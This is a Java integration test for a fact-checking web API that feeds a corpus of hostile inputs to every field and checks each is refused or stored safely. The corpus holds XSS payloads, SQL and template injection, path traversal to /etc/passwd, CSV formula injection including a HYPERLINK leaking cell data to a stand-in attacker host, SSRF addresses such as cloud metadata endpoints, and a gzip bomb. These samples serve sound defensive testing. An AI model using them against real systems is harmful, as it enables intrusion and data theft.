package org.factdesk.security.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

import com.jayway.jsonpath.JsonPath;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.zip.GZIPOutputStream;
import org.factdesk.IntegrationTest;
import org.factdesk.TestUsers;
import org.factdesk.base.Tables;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.json.JsonMapper;

/**
 * A corpus of hostile inputs tried against every text field the API takes, every JSON endpoint and
 * the upload and URL import: each is refused with a problem detail that says why, or stored and
 * handed back as the same text; nothing answers 5xx; exports neutralise formulas and escape markup;
 * and data stored before the attack is unchanged after it. (That stored text is shown as text in a
 * real browser is {@code SecurityIT}'s part.)
 */
@IntegrationTest
class HostileInputTest {

    static final List<String> CORPUS = List.of(
            "<script>alert('fd')</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "</textarea><iframe src=javascript:alert(1)>",
            "javascript:alert(document.cookie)",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "zero\u200Bwidth\u200Cnon\u200Djoiner\uFEFFbom",
            "file \u202Egnp.exe\u202C name and \u2066isolate\u2069",
            "'; DROP TABLE claim; --",
            "{{7*7}} ${7*7} #{7*7} %{7*7}",
            "../../../../etc/passwd",
            "null\u0000byte",
            "\uD83D\uDC4D\uD83C\uDFFD cafe\u0301 Ελληνικά Кириллица",
            "x".repeat(20_000));

    private static final String ADMIN = org.factdesk.api.ApiTestSupport.basic("admin", TestUsers.ADMIN_PASSWORD);
    private static final JsonMapper JSON = JsonMapper.builder().build();

    /** One text field of one endpoint: how to build a request that puts a value there. */
    record Field(String name, HttpMethod method, Function<Ids, String> path, Function<String, Map<String, Object>> body,
            @org.jspecify.annotations.Nullable Function<Ids, String> readBack) {

        /** A field read back from the resource the write created (its Location) or changed (its path). */
        Field(String name, HttpMethod method, Function<Ids, String> path, Function<String, Map<String, Object>> body) {
            this(name, method, path, body, null);
        }

        /** A field read back from another address: a list, or the claim a sub-resource belongs to. */
        Field readFrom(Function<Ids, String> address) {
            return new Field(name, method, path, body, address);
        }
    }

    record Ids(long document, long claim, long claimant, long source) {
    }

    @Autowired
    MockMvc mvc;

    private String canaryDocument;
    private String canaryClaim;
    private long canaryDocumentId;
    private long canaryClaimId;

    @BeforeEach
    void storeSomethingToProtect() throws Exception {
        canaryDocumentId = id(ok(send(HttpMethod.POST, "/api/v1/documents", Map.of("title", "Canary",
                "text", "Kiev accused Moscow of deploying more than 80,000 troops."))));
        canaryClaimId = id(ok(send(HttpMethod.POST, "/api/v1/documents/" + canaryDocumentId + "/claims",
                Map.of("start", 0, "end", 19, "claimText", "Kiev accused Moscow"))));
        canaryDocument = read("/api/v1/documents/" + canaryDocumentId);
        canaryClaim = read("/api/v1/claims/" + canaryClaimId);
    }

    private List<Field> fields() {
        var fields = new ArrayList<Field>();
        for (var name : List.of("title", "text", "publisher", "author", "language")) {
            fields.add(new Field("new document " + name, HttpMethod.POST, ids -> "/api/v1/documents",
                    v -> withDefaults(Map.of("title", "T", "text", "Some text."), name, v)));
        }
        for (var name : List.of("title", "publisher", "author")) {
            fields.add(new Field("document " + name, HttpMethod.PATCH, ids -> "/api/v1/documents/" + ids.document(),
                    v -> Map.of(name, v)));
        }
        fields.add(new Field("document text", HttpMethod.PUT, ids -> "/api/v1/documents/" + ids.document() + "/text",
                v -> Map.of("text", v)).readFrom(ids -> "/api/v1/documents/" + ids.document()));
        fields.add(new Field("new claim text", HttpMethod.POST,
                ids -> "/api/v1/documents/" + ids.document() + "/claims",
                v -> Map.of("start", 0, "end", 4, "claimText", v)));
        fields.add(new Field("new claim tag", HttpMethod.POST, ids -> "/api/v1/documents/" + ids.document() + "/claims",
                v -> Map.of("start", 0, "end", 4, "tags", List.of(v))));
        fields.add(new Field("claim text", HttpMethod.PATCH, ids -> "/api/v1/claims/" + ids.claim(),
                v -> Map.of("claimText", v)));
        fields.add(new Field("claim tag", HttpMethod.PATCH, ids -> "/api/v1/claims/" + ids.claim(),
                v -> Map.of("tags", List.of(v))));
        fields.add(new Field("comment", HttpMethod.POST, ids -> "/api/v1/claims/" + ids.claim() + "/comments",
                v -> Map.of("body", v)).readFrom(ids -> "/api/v1/claims/" + ids.claim() + "/comments"));
        fields.add(new Field("rationale", HttpMethod.PUT, ids -> "/api/v1/claims/" + ids.claim() + "/verdict",
                v -> Map.of("verdict", "FALSE", "rationale", v)).readFrom(ids -> "/api/v1/claims/" + ids.claim()));
        fields.add(new Field("transition note", HttpMethod.POST,
                ids -> "/api/v1/claims/" + ids.claim() + "/transitions", v -> Map.of("to", "IN_RESEARCH", "note", v))
                .readFrom(ids -> "/api/v1/claims/" + ids.claim() + "/history"));
        for (var name : List.of("statedRole", "cue", "checkNote")) {
            fields.add(new Field("attribution " + name, HttpMethod.PUT,
                    ids -> "/api/v1/claims/" + ids.claim() + "/attribution",
                    v -> Map.of("claimantId", 0, name, v)).readFrom(ids -> "/api/v1/claims/" + ids.claim()));
        }
        for (var name : List.of("excerpt", "locator", "note")) {
            fields.add(new Field("evidence " + name, HttpMethod.POST, ids -> "/api/v1/claims/" + ids.claim() + "/evidence",
                    v -> withDefaults(Map.of("sourceId", 0, "stance", "REFUTES"), name, v))
                    .readFrom(ids -> "/api/v1/claims/" + ids.claim() + "/evidence"));
        }
        fields.add(new Field("claimant name", HttpMethod.POST, ids -> "/api/v1/claimants",
                v -> Map.of("name", v, "kind", "PERSON")));
        fields.add(new Field("claimant alias", HttpMethod.POST, ids -> "/api/v1/claimants",
                v -> Map.of("name", "Alias holder " + System.nanoTime(), "kind", "PERSON", "aliases", List.of(v))));
        fields.add(new Field("claimant notes", HttpMethod.PATCH, ids -> "/api/v1/claimants/" + ids.claimant(),
                v -> Map.of("notes", v)));
        for (var name : List.of("title", "publisher", "author", "notes", "reliabilityNote")) {
            fields.add(new Field("source " + name, HttpMethod.POST, ids -> "/api/v1/sources",
                    v -> withDefaults(Map.of("url", "https://example.org/h/" + System.nanoTime(), "title", "S"), name, v)));
        }
        fields.add(new Field("suggest text", HttpMethod.POST, ids -> "/api/v1/suggest", v -> Map.of("text", v)));
        fields.add(new Field("dismissed quote", HttpMethod.POST,
                ids -> "/api/v1/documents/" + ids.document() + "/suggestions/dismissals", v -> Map.of("quote", v)));
        fields.add(new Field("token name", HttpMethod.POST, ids -> "/api/v1/me/tokens", v -> Map.of("name", v))
                .readFrom(ids -> "/api/v1/me/tokens"));
        fields.add(new Field("username", HttpMethod.POST, ids -> "/api/v1/admin/users",
                v -> Map.of("username", v, "password", "a-long-password-1")).readFrom(ids -> "/api/v1/admin/users?size=500"));
        fields.add(new Field("display name", HttpMethod.POST, ids -> "/api/v1/admin/users",
                v -> Map.of("username", "u" + System.nanoTime(), "password", "a-long-password-1", "displayName", v))
                .readFrom(ids -> "/api/v1/admin/users?size=500"));
        fields.add(new Field("verdict label", HttpMethod.POST, ids -> "/api/v1/admin/verdicts",
                v -> Map.of("code", "H" + System.nanoTime(), "label", v, "color", "#aa0000"))
                .readFrom(ids -> "/api/v1/verdicts"));
        fields.add(new Field("verdict code", HttpMethod.POST, ids -> "/api/v1/admin/verdicts",
                v -> Map.of("code", v, "label", "L", "color", "#aa0000")).readFrom(ids -> "/api/v1/verdicts"));
        fields.add(new Field("verdict colour", HttpMethod.POST, ids -> "/api/v1/admin/verdicts",
                v -> Map.of("code", "C" + System.nanoTime(), "label", "L", "color", v)).readFrom(ids -> "/api/v1/verdicts"));
        return fields;
    }

    /**
     * What reading the field back gives: the answer to a GET of the address that holds it, or null
     * where nothing is stored (suggestions are computed, a dismissal only hides a suggestion).
     */
    private @org.jspecify.annotations.Nullable String readBack(Field field, Ids ids, MockHttpServletResponse response)
            throws Exception {
        if (field.name().equals("suggest text") || field.name().equals("dismissed quote")) {
            return null;
        }
        String address;
        if (field.readBack() != null) {
            address = field.readBack().apply(ids);
        } else if (response.getHeader(HttpHeaders.LOCATION) != null) {
            address = java.net.URI.create(response.getHeader(HttpHeaders.LOCATION)).getPath();
        } else {
            address = field.path().apply(ids);
        }
        return read(address);
    }

    /**
     * The text as Factdesk documents it keeps it: a document's text in its canonical form (NFC, no
     * NUL); a tag on one line in lower case; names, titles and other one-line fields with control
     * characters and runs of space as one space (or as given: a few short labels keep them); free
     * texts (claim text, comments, rationale, notes) as given, trimmed; and nowhere a NUL character.
     */
    private static List<String> stored(Field field, String payload) {
        var name = field.name();
        if (name.equals("document text") || name.equals("new document text")) {
            return List.of(org.factdesk.document.CanonicalText.of(payload));
        }
        var line = payload.replaceAll("[\\p{Cntrl}\\s]+", " ").strip();
        if (name.endsWith(" tag")) {
            // A JSON body loses its NULs as it is read (Inputs.storable), before a tag is made one line.
            return List.of(line.toLowerCase(java.util.Locale.ROOT), payload.replace("\u0000", "")
                    .replaceAll("[\\p{Cntrl}\\s]+", " ").strip().toLowerCase(java.util.Locale.ROOT));
        }
        boolean freeText = name.contains("claim text") || name.equals("comment") || name.equals("rationale")
                || name.endsWith("note") || name.endsWith("notes") || name.endsWith("Note") || name.endsWith("excerpt");
        var withoutNul = payload.replace("\u0000", ""); // no text keeps a NUL (NoNulCharacters)
        return freeText ? List.of(withoutNul) : List.of(line, withoutNul);
    }

    /** Every string value anywhere in a JSON answer, normalised as stored text is. */
    private static java.util.Set<String> stringsIn(String json) {
        var found = new java.util.HashSet<String>();
        collect(JSON.readTree(json), found);
        return found;
    }

    private static void collect(tools.jackson.databind.JsonNode node, java.util.Set<String> found) {
        if (node.isString()) {
            found.add(normalized(node.asString()));
        }
        for (var child : node) {
            collect(child, found);
        }
    }

    private static String normalized(String s) {
        return java.text.Normalizer.normalize(s, java.text.Normalizer.Form.NFC).strip();
    }

    private static Map<String, Object> withDefaults(Map<String, Object> defaults, String name, Object value) {
        var map = new LinkedHashMap<String, Object>(defaults);
        map.put(name, value);
        return map;
    }

    @Test
    void every_text_field_refuses_clearly_or_stores_the_text_as_given() throws Exception {
        var ids = freshTarget();
        var failures = new ArrayList<String>();
        int accepted = 0;
        int refused = 0;
        for (var field : fields()) {
            for (var payload : CORPUS) {
                var body = resolve(field.body().apply(payload), ids);
                var response = send(field.method(), field.path().apply(ids), body);
                var label = field.name() + " <- " + abbreviate(payload);
                int status = response.getStatus();
                if (status >= 500 || status == 401 || status == 403) {
                    failures.add(label + ": " + status + " " + abbreviate(response.getContentAsString()));
                } else if (status >= 400) {
                    refused++;
                    String detail = JsonPath.read(response.getContentAsString(), "$.detail");
                    if (detail == null || detail.isBlank()) {
                        failures.add(label + ": refused without saying why");
                    }
                } else {
                    accepted++;
                    var back = readBack(field, ids, response);
                    if (back != null && stored(field, payload).stream().map(HostileInputTest::normalized)
                            .noneMatch(stringsIn(back)::contains)) {
                        failures.add(label + ": accepted, but reading it back does not give the same text");
                    }
                    var text = response.getContentAsString();
                    // Whatever is handed back is JSON text, never raw markup outside a JSON string.
                    if (!text.isEmpty() && response.getContentType() != null
                            && !response.getContentType().contains("json")) {
                        failures.add(label + ": answered " + response.getContentType());
                    }
                }
            }
        }
        System.out.printf("hostile corpus: %d fields x %d payloads: %d stored, %d refused%n", fields().size(),
                CORPUS.size(), accepted, refused);
        assertThat(failures).as("hostile inputs that crashed or were refused without a reason").isEmpty();
        assertThat(accepted).as("most hostile text is simply stored as text").isGreaterThan(refused);
        assertCanaryUnchanged();
    }

    /** Searches and look-ups with hostile text in their parameters: an answer, never a 5xx (PostgreSQL refuses NUL). */
    @Test
    void hostile_text_in_query_parameters_never_answers_5xx() throws Exception {
        var failures = new ArrayList<String>();
        for (var path : List.of("/api/v1/documents?q=", "/api/v1/claims?q=", "/api/v1/claims?tag=", "/api/v1/claims?claimant=",
                "/api/v1/claims?assignee=", "/api/v1/claimants?q=", "/api/v1/sources?q=", "/api/v1/reports?format=csv&q=")) {
            for (var payload : CORPUS) {
                var response = mvc.perform(get(path + java.net.URLEncoder.encode(payload, StandardCharsets.UTF_8))
                        .header(HttpHeaders.AUTHORIZATION, ADMIN)).andReturn().getResponse();
                if (response.getStatus() >= 500) {
                    failures.add(path + abbreviate(payload) + ": " + response.getStatus());
                }
            }
        }
        assertThat(failures).isEmpty();
    }

    @Test
    void hostile_text_comes_back_exactly_and_exports_defuse_it() throws Exception {
        var ids = freshTarget();
        var stored = new ArrayList<Long>();
        for (var payload : CORPUS.subList(0, CORPUS.size() - 1)) {
            var response = send(HttpMethod.POST, "/api/v1/documents/" + ids.document() + "/claims",
                    Map.of("start", 0, "end", 4, "claimText", payload));
            assertThat(response.getStatus()).as(abbreviate(payload)).isEqualTo(201);
            long claimId = id(response.getContentAsString());
            stored.add(claimId);
            String back = JsonPath.read(read("/api/v1/claims/" + claimId), "$.claimText");
            var expected = java.text.Normalizer.normalize(payload.replace("\u0000", ""), java.text.Normalizer.Form.NFC).strip();
            back = java.text.Normalizer.normalize(back, java.text.Normalizer.Form.NFC);
            assertThat(back).as("stored claim text for " + abbreviate(payload)).isEqualTo(expected);
        }

        var csv = report(ids.document(), "csv");
        for (var row : Tables.parse(csv, ',')) {
            for (var cell : row) {
                assertThat(cell).as("CSV cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
        assertThat(csv).contains("'=HYPERLINK");

        var html = report(ids.document(), "html");
        assertThat(html).doesNotContain("<script>alert").doesNotContain("<img src=x").doesNotContain("<svg/onload")
                .doesNotContain("<iframe").contains("&lt;script&gt;alert");
        var markdown = report(ids.document(), "md");
        assertThat(markdown).doesNotContain("<script>alert").doesNotContain("<img src=x").doesNotContain("<iframe");
        var pdf = mvc.perform(get("/api/v1/documents/" + ids.document() + "/report?format=pdf")
                .header(HttpHeaders.AUTHORIZATION, ADMIN)).andReturn().getResponse();
        assertThat(pdf.getStatus()).isEqualTo(200);
        var pdfText = new String(pdf.getContentAsByteArray(), StandardCharsets.ISO_8859_1);
        assertThat(pdfText).startsWith("%PDF").doesNotContain("/JavaScript").doesNotContain("/JS ")
                .doesNotContain("/Launch");
        assertCanaryUnchanged();
    }

    @Test
    void malformed_json_and_invalid_utf8_get_400_on_every_json_endpoint() throws Exception {
        var ids = freshTarget();
        var broken = List.of("{\"title\": ", "[", "nul", "{\"title\":\"a\"} trailing", "{'title':'single quotes'}",
                "{\"title\":\"a\",}", "\"just a string\"");
        var failures = new ArrayList<String>();
        for (var endpoint : ApiAccessMatrixTest.MATRIX) {
            if (endpoint.body().isEmpty() || endpoint.path().endsWith("#upload")) {
                continue;
            }
            var path = endpoint.path().replace("{doc}", String.valueOf(ids.document()))
                    .replace("{claim}", String.valueOf(ids.claim())).replace("{claimant}", String.valueOf(ids.claimant()))
                    .replace("{source}", String.valueOf(ids.source())).replace("{verdict}", "FALSE")
                    .replace("{user}", "viewer").replace("{token}", "1").replace("{evidence}", "1")
                    .replace("{filter}", "hostile");
            for (var body : broken) {
                var response = mvc.perform(request(HttpMethod.valueOf(endpoint.method()), path)
                        .header(HttpHeaders.AUTHORIZATION, ADMIN).contentType(MediaType.APPLICATION_JSON).content(body))
                        .andReturn().getResponse();
                if (response.getStatus() >= 500 || response.getStatus() < 400) {
                    failures.add(endpoint.method() + " " + path + " <- " + body + ": " + response.getStatus());
                }
            }
            var invalidUtf8 = new byte[] { '{', '"', 't', 'e', 'x', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28,
                    (byte) 0xFF, '"', '}' };
            var response = mvc.perform(request(HttpMethod.valueOf(endpoint.method()), path)
                    .header(HttpHeaders.AUTHORIZATION, ADMIN).contentType(MediaType.APPLICATION_JSON).content(invalidUtf8))
                    .andReturn().getResponse();
            if (response.getStatus() >= 500) {
                failures.add(endpoint.method() + " " + path + " <- invalid UTF-8: " + response.getStatus());
            }
        }
        assertThat(failures).isEmpty();
        assertCanaryUnchanged();
    }

    @Test
    void unknown_fields_in_a_change_are_refused_before_anything_is_written() throws Exception {
        var ids = freshTarget();
        var before = read("/api/v1/documents/" + ids.document());
        for (var path : List.of("/api/v1/documents/" + ids.document(), "/api/v1/claims/" + ids.claim(),
                "/api/v1/claimants/" + ids.claimant(), "/api/v1/sources/" + ids.source(), "/api/v1/admin/users/viewer")) {
            expectRefusal(send(HttpMethod.PATCH, path, Map.of("titel", "typo")), "PATCH " + path);
        }
        expectRefusal(send(HttpMethod.PATCH, "/api/v1/documents/" + ids.document(),
                Map.of("title", "Half", "publsher", "typo")), "half a change");
        assertThat(read("/api/v1/documents/" + ids.document())).isEqualTo(before);
        expectRefusal(send(HttpMethod.PUT, "/api/v1/claims/" + ids.claim() + "/verdict", Map.of()), "empty verdict");
        expectRefusal(send(HttpMethod.PUT, "/api/v1/claims/" + ids.claim() + "/verdict", Map.of("verdikt", "FALSE")),
                "misspelt verdict");
    }

    @Test
    void hostile_uploads_and_addresses_are_refused_with_a_reason() throws Exception {
        // a gzip bomb posing as a web page: 200 MB of zeros in a small file
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            var zeros = new byte[1 << 20];
            for (int i = 0; i < 200; i++) {
                gzip.write(zeros);
            }
        }
        expectRefusal(upload("article.html.gz", bytes.toByteArray()), "gzip bomb");
        expectRefusal(upload("article.html.gz", "not gzip at all".getBytes(StandardCharsets.UTF_8)), "fake gzip");
        expectRefusal(upload("payload.exe", new byte[] { 'M', 'Z', 0, 0 }), "executable");
        expectRefusal(upload("broken.txt", new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, 0 }),
                "invalid UTF-8");

        var traversal = upload("..\\..\\windows\\system32\\notes.txt", "Plain notes.".getBytes(StandardCharsets.UTF_8));
        assertThat(traversal.getStatus()).isEqualTo(201);
        String title = JsonPath.read(traversal.getContentAsString(), "$.title");
        assertThat(title).doesNotContain("..").doesNotContain("\\").doesNotContain("/");

        for (var url : List.of("http://127.0.0.1:8080/api/v1/documents", "http://localhost/", "http://[::1]/",
                "http://10.0.0.7/", "http://192.168.0.1/", "http://169.254.169.254/latest/meta-data/",
                "http://metadata.google.internal/computeMetadata/v1/", "http://0.0.0.0/", "http://2130706433/",
                "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "ftp://example.org/x", "http://exa mple.org/")) {
            expectRefusal(send(HttpMethod.POST, "/api/v1/documents", Map.of("url", url)), "import " + url);
        }
        // A source's address is a reference that Factdesk never fetches: only its scheme and form matter.
        for (var url : List.of("file:///etc/passwd", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "ftp://example.org/x", "http://exa mple.org/", "vbscript:msgbox(1)", "//example.org/no-scheme")) {
            expectRefusal(send(HttpMethod.POST, "/api/v1/sources", Map.of("url", url, "title", "S")), "source " + url);
        }
        var oversized = send(HttpMethod.POST, "/api/v1/documents", Map.of("title", "Huge", "text",
                "word ".repeat(2_100_000)));
        expectRefusal(oversized, "11 MB text");
        assertCanaryUnchanged();
    }

    private void expectRefusal(MockHttpServletResponse response, String what) throws Exception {
        assertThat(response.getStatus()).as(what + ": " + abbreviate(response.getContentAsString())).isBetween(400, 499);
        String detail = JsonPath.read(response.getContentAsString(), "$.detail");
        assertThat(detail).as(what).isNotBlank();
    }

    private MockHttpServletResponse upload(String name, byte[] content) throws Exception {
        return mvc.perform(multipart("/api/v1/documents").file(new MockMultipartFile("file", name,
                "application/octet-stream", content)).header(HttpHeaders.AUTHORIZATION, ADMIN)).andReturn().getResponse();
    }

    private Ids freshTarget() throws Exception {
        long document = id(ok(send(HttpMethod.POST, "/api/v1/documents", Map.of("title", "Target",
                "text", "Kiev accused Moscow of deploying more than 80,000 troops, officials said."))));
        long claim = id(ok(send(HttpMethod.POST, "/api/v1/documents/" + document + "/claims",
                Map.of("start", 0, "end", 19))));
        long claimant = id(ok(send(HttpMethod.POST, "/api/v1/claimants",
                Map.of("name", "Target claimant " + System.nanoTime(), "kind", "GOVERNMENT"))));
        long source = id(ok(send(HttpMethod.POST, "/api/v1/sources",
                Map.of("url", "https://example.org/target-" + System.nanoTime(), "title", "Target source"))));
        return new Ids(document, claim, claimant, source);
    }

    private static Map<String, Object> resolve(Map<String, Object> body, Ids ids) {
        var map = new LinkedHashMap<String, Object>(body);
        if (Integer.valueOf(0).equals(map.get("claimantId"))) {
            map.put("claimantId", ids.claimant());
        }
        if (Integer.valueOf(0).equals(map.get("sourceId"))) {
            map.put("sourceId", ids.source());
        }
        return map;
    }

    private void assertCanaryUnchanged() throws Exception {
        assertThat(read("/api/v1/documents/" + canaryDocumentId)).isEqualTo(canaryDocument);
        assertThat(read("/api/v1/claims/" + canaryClaimId)).isEqualTo(canaryClaim);
    }

    private String report(long document, String format) throws Exception {
        var response = mvc.perform(get("/api/v1/documents/" + document + "/report?format=" + format)
                .header(HttpHeaders.AUTHORIZATION, ADMIN)).andReturn().getResponse();
        assertThat(response.getStatus()).isEqualTo(200);
        return response.getContentAsString(StandardCharsets.UTF_8);
    }

    private MockHttpServletResponse send(HttpMethod method, String path, Map<String, Object> body) throws Exception {
        return mvc.perform(request(method, path).header(HttpHeaders.AUTHORIZATION, ADMIN)
                .contentType(MediaType.APPLICATION_JSON).characterEncoding(StandardCharsets.UTF_8)
                .content(JSON.writeValueAsString(body))).andReturn().getResponse();
    }

    private String read(String path) throws Exception {
        var response = mvc.perform(get(path).header(HttpHeaders.AUTHORIZATION, ADMIN)).andReturn().getResponse();
        assertThat(response.getStatus()).as(path).isEqualTo(200);
        return response.getContentAsString(StandardCharsets.UTF_8);
    }

    private static String ok(MockHttpServletResponse response) throws Exception {
        assertThat(response.getStatus()).as(response.getContentAsString()).isBetween(200, 201);
        return response.getContentAsString(StandardCharsets.UTF_8);
    }

    private static long id(String json) {
        return ((Number) JsonPath.read(json, "$.id")).longValue();
    }

    private static String abbreviate(String s) {
        var escaped = s.replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t");
        return escaped.length() > 80 ? escaped.substring(0, 80) + "… (" + s.length() + " chars)" : escaped;
    }
}
